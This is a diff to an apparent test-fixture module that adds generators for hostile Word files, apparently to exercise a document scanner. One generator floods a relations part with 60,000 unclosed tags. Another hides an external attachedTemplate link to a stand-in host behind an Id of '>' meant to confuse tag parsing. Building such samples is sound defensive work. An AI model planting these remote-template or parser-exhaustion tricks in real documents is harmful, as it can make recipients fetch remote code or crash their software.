@@ -80,6 +80,22 @@ def with_remote_template():
     return repacked(add=[("word/_rels/settings.xml.rels", link)])
 
 
+def with_endless_relations():
+    """Return a Word file whose relations are a million beginnings and no end."""
+    return repacked(add=[("word/_rels/x.xml.rels", b"<Relationship " * 60_000)])
+
+
+def with_hidden_remote_template():
+    """Return a Word file that fetches its template, behind a sign that ends no tag."""
+    kinds = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    link = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id=">" Type="%s/attachedTemplate" Target="https://ond.example/x.dotm" '
+        b'TargetMode="External"/></Relationships>' % kinds
+    )
+    return repacked(add=[("word/_rels/settings.xml.rels", link)])
+
+
 def lying():
     """Return a Word file with a part that is more than it declares."""
     file = bytearray(repacked(add=[("word/x.bin", b"\0" * 100_000)]))
